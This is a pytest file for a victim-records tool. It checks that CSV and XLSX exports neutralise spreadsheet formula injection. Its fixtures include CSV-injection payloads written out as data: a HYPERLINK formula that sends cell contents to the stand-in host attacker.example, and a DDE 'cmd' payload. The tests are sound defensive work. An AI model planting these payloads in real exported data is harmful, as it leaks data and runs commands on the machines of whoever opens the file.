"""Formula-like cells (CSV injection, OWASP) are written as text in every CSV/XLSX export.

Hostile cells go in the way an attacker would put them: inside an imported victim list and
as the name of a preserved file. They come out of `victims export` (CSV and XLSX), `victims
histories` and `export data`, on a real SQLite workspace through the real command line.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from casefile.cli.main import app
from casefile.export.cells import csv_cell, is_formula_like
from casefile.people.importer import import_list
from casefile.people.link import run_link
from casefile.vault.workspace import Workspace

runner = CliRunner()

LINK = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "-2+3"
TAB = "\t=1+1"


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True),
        (LINK, True),
        ("+cmd", True),
        ("-2+3", True),
        (DDE, True),
        (TAB, True),
        ("\r=1", True),
        ("  =1+1", True),  # leading spaces skipped by some importers
        ("-5", False),  # a plain number calls nothing
        ("+3.5", False),
        ("-1e3", False),
        ("Шевченко Олексій", False),
        ("a-b=c", False),  # only the first character counts
        ("", False),
    ],
)
def test_formula_like_values(value: str, formula: bool) -> None:
    assert is_formula_like(value) is formula
    assert csv_cell(value) == ("'" + value if formula else value)


def test_numbers_stay_numbers() -> None:
    assert csv_cell(-5) == -5 and csv_cell(-0.25) == -0.25 and csv_cell(None) is None


def _list(rows: list[tuple[str, str, str, str]]) -> str:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["ID", "ПІБ", "Дата народження", "Примітки"])
    w.writerows(rows)
    return out.getvalue()


PEOPLE = [
    ("Шевченко Олексій Іванович", "1978"),
    ("Бондаренко Юлія Петрівна", "1980"),
    ("Коваленко Петро Миколайович", "1965"),
    ("Ткаченко Ольга Сергіївна", "1990"),
    ("Кравченко Іван Андрійович", "1955"),
    ("Олійник Марія Василівна", "1972"),
    ("Шевчук Андрій Олегович", "1984"),
    ("Поліщук Наталія Ігорівна", "1969"),
]


@pytest.fixture(scope="module")
def linked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A workspace with two linked lists, one of them carrying hostile cells."""
    root = tmp_path_factory.mktemp("formula")
    ws = Workspace.init(root / "ws", None, actor="tester@test")
    hostile = [(f"p{i}", n, b, "") for i, (n, b) in enumerate(PEOPLE)]
    hostile.append(("p-x", LINK, "1977", DDE))
    hostile.append(("p-y", "Мельник Степан", "1950", NOTE))
    hostile.append(("p-z", "Савченко Віра", "1949", TAB))
    (root / "police.csv").write_text(_list(hostile), encoding="utf-8")
    (root / "ngo.csv").write_text(
        _list([(f"n{i}", n, b, "") for i, (n, b) in enumerate(PEOPLE[:6])]), encoding="utf-8"
    )
    import_list(ws, root / "police.csv", "police")
    import_list(ws, root / "ngo.csv", "ngo")
    run_link(ws)
    ws.close()
    yield root / "ws"


def _cli(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_victims_export_csv_writes_formulas_as_text(linked: Path, tmp_path: Path) -> None:
    out = tmp_path / "victims.csv"
    _cli("-w", str(linked), "victims", "export", str(out))
    rows = {r["record_id"]: r for r in _csv_rows(out)}
    assert rows["p-x"]["full_name"] == "'" + LINK
    assert rows["p-x"]["notes"] == "'" + DDE
    assert rows["p-y"]["notes"] == "'" + NOTE
    assert rows["p-z"]["notes"] == "'=1+1"  # the import strips the tab; the rest is escaped
    assert rows["p0"]["full_name"] == "Шевченко Олексій Іванович"  # ordinary text untouched
    raw = out.read_text(encoding="utf-8")
    assert "\n=" not in raw and ",=" not in raw and ',"=' not in raw


def test_victims_export_xlsx_has_no_formula_cells(linked: Path, tmp_path: Path) -> None:
    out = tmp_path / "victims.xlsx"
    _cli("-w", str(linked), "victims", "export", str(out))
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    wb = openpyxl.load_workbook(out)
    sh = wb.active
    assert sh is not None
    header = [c.value for c in sh[1]]
    cells = {
        row[header.index("record_id")].value: {h: c for h, c in zip(header, row, strict=True)}
        for row in sh.iter_rows(min_row=2)
    }
    name = cells["p-x"]["full_name"]
    assert (name.value, name.data_type, name.quotePrefix) == (LINK, "s", True)
    assert cells["p-x"]["notes"].value == DDE and cells["p-x"]["notes"].data_type == "s"
    assert cells["p-y"]["notes"].value == NOTE and cells["p-y"]["notes"].quotePrefix
    # Numbers stay numbers: the number of records of a person is numeric, as before.
    assert cells["p0"]["person_records"].data_type == "n"
    assert cells["p0"]["full_name"].quotePrefix is False


def test_export_data_writes_formula_like_names_as_text(linked: Path, tmp_path: Path) -> None:
    evil = tmp_path / "=HYPERLINK(1).txt"
    evil.write_text("a file with a hostile name")
    _cli("-w", str(linked), "add", str(evil))
    out = tmp_path / "data"
    _cli("-w", str(linked), "export", "data", "--all", str(out))
    items = _csv_rows(out / "items.csv")
    assert "'=HYPERLINK(1).txt" in {r["names"] for r in items}
    victims = {r["record_id"]: r for r in _csv_rows(out / "victims.csv")}
    assert victims["p-x"]["full_name"] == "'" + LINK
    for path in out.rglob("*.csv"):
        for row in csv.reader(path.open(newline="", encoding="utf-8")):
            assert not any(is_formula_like(cell) for cell in row), (path.name, row)
